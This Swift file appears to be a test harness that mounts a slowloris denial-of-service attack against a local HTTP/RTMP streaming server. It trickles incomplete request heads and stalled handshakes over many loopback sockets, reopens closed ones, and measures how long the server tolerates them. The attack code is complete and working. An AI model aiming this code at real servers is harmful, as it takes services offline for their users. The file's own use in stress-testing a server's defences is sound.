import Foundation
import Kernel
import Protocol
#if canImport(Glibc)
import Glibc
#endif

/// A slowloris attacker on one thread: `count` non-blocking sockets, bound to source addresses
/// 127.0.0.2... (loopback answers the whole 127/8 on Linux), each trickling a byte every
/// `dripInterval` and never finishing; a socket the server closes is reopened at once, as a
/// real attacker does. Records the age of every connection when the server closed it.
final class SlowlorisAttack: @unchecked Sendable {
    enum Kind: String, CaseIterable, Sendable {
        /// An HTTP request head, one byte at a time, never complete.
        case httpHead
        /// RTMP: C0, then C1 one byte at a time.
        case rtmpHandshake
        /// RTMP: the whole handshake and `connect`, then nothing (no publish, no play).
        case rtmpCommands
    }

    struct Close: Sendable {
        let kind: Kind
        /// Seconds from the connect to the server's close (as seen here).
        let age: Double
    }

    private final class Conn {
        let fd: Int32
        let kind: Kind
        let opened: Double
        var nextDrip: Double
        var sent = 0
        var received: [UInt8] = []
        var handshook = false
        init(fd: Int32, kind: Kind, opened: Double, nextDrip: Double) {
            self.fd = fd
            self.kind = kind
            self.opened = opened
            self.nextDrip = nextDrip
        }
    }

    let count: Int
    let mix: [Kind]
    let sources: Int
    let dripInterval: Double
    let httpPort: Int
    let rtmpPort: Int
    private let lock = NSLock()
    private var _closes: [Close] = []
    private var _openFailures = 0
    private var _open = 0
    private var running = true
    private var finished = false
    private var conns: [Int32: Conn] = [:]
    private static let httpHead = Array("GET /live/livestream.flv HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n".utf8)
        + Array(repeating: UInt8(ascii: "X"), count: 4000)

    /// `mix` is cycled through to pick each connection's kind.
    init(count: Int, mix: [Kind], sources: Int = 16, dripInterval: Double = 5, httpPort: Int, rtmpPort: Int) {
        self.count = count
        self.mix = mix
        self.sources = sources
        self.dripInterval = dripInterval
        self.httpPort = httpPort
        self.rtmpPort = rtmpPort
        Thread { [self] in run() }.start()
    }

    var closes: [Close] { lock.withLock { _closes } }
    var openFailures: Int { lock.withLock { _openFailures } }
    /// Connections open now (from this side).
    var open: Int { lock.withLock { _open } }

    /// Stops, closes every socket, and returns the ages of the ones still open (seconds).
    func stop() -> [(Kind, Double)] {
        lock.withLock { running = false }
        _ = Deadline.wait(timeout: 10) { lock.withLock { finished } }
        let now = Self.now()
        return lock.withLock { conns.values.map { ($0.kind, now - $0.opened) } }
    }

    static func now() -> Double {
        var ts = timespec()
        clock_gettime(CLOCK_MONOTONIC, &ts)
        return Double(ts.tv_sec) + Double(ts.tv_nsec) / 1e9
    }

    private func run() {
        var serial = 0
        var pfds: [pollfd] = []
        while lock.withLock({ running }) {
            let now = Self.now()
            // Top up to `count`, at most 100 connects per round (the accept backlog is bounded).
            var opened = 0
            while conns.count < count && opened < 100 {
                let kind = mix[serial % mix.count]
                if let c = connect(kind, source: 2 + serial % sources, now: now) { conns[c.fd] = c } else {
                    lock.withLock { _openFailures += 1 }
                }
                serial += 1
                opened += 1
            }
            lock.withLock { _open = conns.count }
            pfds.removeAll(keepingCapacity: true)
            for c in conns.values { pfds.append(pollfd(fd: c.fd, events: Int16(POLLIN), revents: 0)) }
            _ = pfds.withUnsafeMutableBufferPointer { poll($0.baseAddress, nfds_t($0.count), 100) }
            // At most 100 rounds a second: each one is a poll over every socket.
            let spent = Self.now() - now
            if spent < 0.01 { usleep(useconds_t((0.01 - spent) * 1_000_000)) }
            let after = Self.now()
            for p in pfds where p.revents != 0 {
                guard let c = conns[p.fd] else { continue }
                if !receive(c) { closed(c, at: after) }
            }
            for c in Array(conns.values) where c.nextDrip <= after && conns[c.fd] != nil {
                drip(c)
                c.nextDrip = after + dripInterval
            }
        }
        for c in conns.values { Glibc.close(c.fd) }
        lock.withLock { finished = true }
    }

    private func closed(_ c: Conn, at now: Double) {
        conns.removeValue(forKey: c.fd)
        Glibc.close(c.fd)
        lock.withLock { _closes.append(Close(kind: c.kind, age: now - c.opened)) }
    }

    private func connect(_ kind: Kind, source: Int, now: Double) -> Conn? {
        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue) | Int32(SOCK_NONBLOCK.rawValue), 0)
        guard fd >= 0 else { return nil }
        var on: Int32 = 1
        setsockopt(fd, Int32(IPPROTO_TCP), TCP_NODELAY, &on, socklen_t(MemoryLayout<Int32>.size))
        // Our thousand ephemeral ports must not keep servers started meanwhile (FreePort picks
        // from the same range) from binding: with SO_REUSEADDR on both sides they may.
        setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, socklen_t(MemoryLayout<Int32>.size))
        var local = sockaddr_in()
        local.sin_family = sa_family_t(AF_INET)
        local.sin_addr.s_addr = inet_addr("127.0.0.\(source)")
        var addr = sockaddr_in()
        addr.sin_family = sa_family_t(AF_INET)
        addr.sin_port = in_port_t(UInt16(kind == .httpHead ? httpPort : rtmpPort).bigEndian)
        addr.sin_addr.s_addr = inet_addr("127.0.0.1")
        let len = socklen_t(MemoryLayout<sockaddr_in>.size)
        let b = withUnsafePointer(to: &local) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, len) } }
        let r = withUnsafePointer(to: &addr) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { Glibc.connect(fd, $0, len) } }
        guard b == 0, r == 0 || errno == EINPROGRESS else {
            Glibc.close(fd)
            return nil
        }
        // The first bytes go out at once (queued until the connect completes); then the drip.
        let c = Conn(fd: fd, kind: kind, opened: now, nextDrip: now + dripInterval)
        switch kind {
        case .httpHead:
            c.sent = 1
            write(c, [Self.httpHead[0]])
        case .rtmpHandshake:
            c.sent = 1
            write(c, [3])
        case .rtmpCommands:
            write(c, [3] + [UInt8](repeating: 0, count: 1536))
        }
        return c
    }

    private func drip(_ c: Conn) {
        switch c.kind {
        case .httpHead:
            guard c.sent < Self.httpHead.count else { return }
            write(c, [Self.httpHead[c.sent]])
            c.sent += 1
        case .rtmpHandshake:
            guard c.sent < 1537 else { return }
            write(c, [0])
            c.sent += 1
        case .rtmpCommands:
            break
        }
    }

    /// Reads what is there; false when the server closed the connection.
    private func receive(_ c: Conn) -> Bool {
        var buf = [UInt8](repeating: 0, count: 8192)
        while true {
            let n = buf.withUnsafeMutableBytes { recv(c.fd, $0.baseAddress, $0.count, 0) }
            if n == 0 { return false }
            if n < 0 { return errno == EAGAIN || errno == EWOULDBLOCK }
            guard c.kind == .rtmpCommands, !c.handshook else { continue }
            c.received += buf[0..<n]
            if c.received.count >= 3073 {
                // C2 (a copy of S1), then connect, then silence.
                c.handshook = true
                let connect = RTMPCommand(name: "connect", transactionID: 1, commandObject: .object([
                    AMF0Property("app", .string("live")), AMF0Property("tcUrl", .string("rtmp://127.0.0.1:\(rtmpPort)/live"))]))
                write(c, Array(c.received[1..<1537]) + RTMPChunkEncoder.encode(connect.message(), chunkSize: 128))
                c.received = []
            }
        }
    }

    private func write(_ c: Conn, _ bytes: [UInt8]) {
        _ = bytes.withUnsafeBytes { send(c.fd, $0.baseAddress, $0.count, Int32(MSG_NOSIGNAL)) }
    }
}
